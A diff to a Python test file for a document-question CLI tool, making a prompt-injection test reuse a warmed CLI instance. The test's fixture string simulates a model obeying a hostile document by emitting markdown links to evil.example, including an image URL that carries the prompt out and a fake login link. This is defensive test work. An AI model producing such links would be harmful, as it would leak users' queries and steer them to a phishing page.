@@ -10,7 +10,7 @@ from tests.support.command_line import CommandLine
 from tests.support.openai_replies import answer
 from tests.support.openai_server import OpenAIServer
 from tests.support.pseudo_terminal import shown
-from tests.support.warm_command_line import Run, warm_apart
+from tests.support.warm_command_line import Run, warm, warm_apart
 
 MAX_S = 60.0
 MAX_MB = 900
@@ -65,9 +65,9 @@ def test_files_outside_the_folder_are_not_stored(ingested: Run, cli_with_hostile
 def test_a_document_cannot_inject_terminal_links(ingested: Run, cli_with_hostile_folder: CommandLine) -> None:
     assert ingested.outcome.code == 6
     obedient = "![status](http://evil.example/?q=PROMPT) and [the timetable](http://evil.example/login) [1]"
-    with OpenAIServer(chat=answer(obedient)) as server:
+    with OpenAIServer(chat=answer(obedient)) as server, warm(cli_with_hostile_folder) as machine:
         terminals = [
-            shown(cli_with_hostile_folder, "ask", "When does the ferry leave?", *flags, columns=160)
+            shown(machine, "ask", "When does the ferry leave?", *flags, columns=160)
             for flags in (("--base-url", server.base_url, "-m", "m"), ())
         ]
 
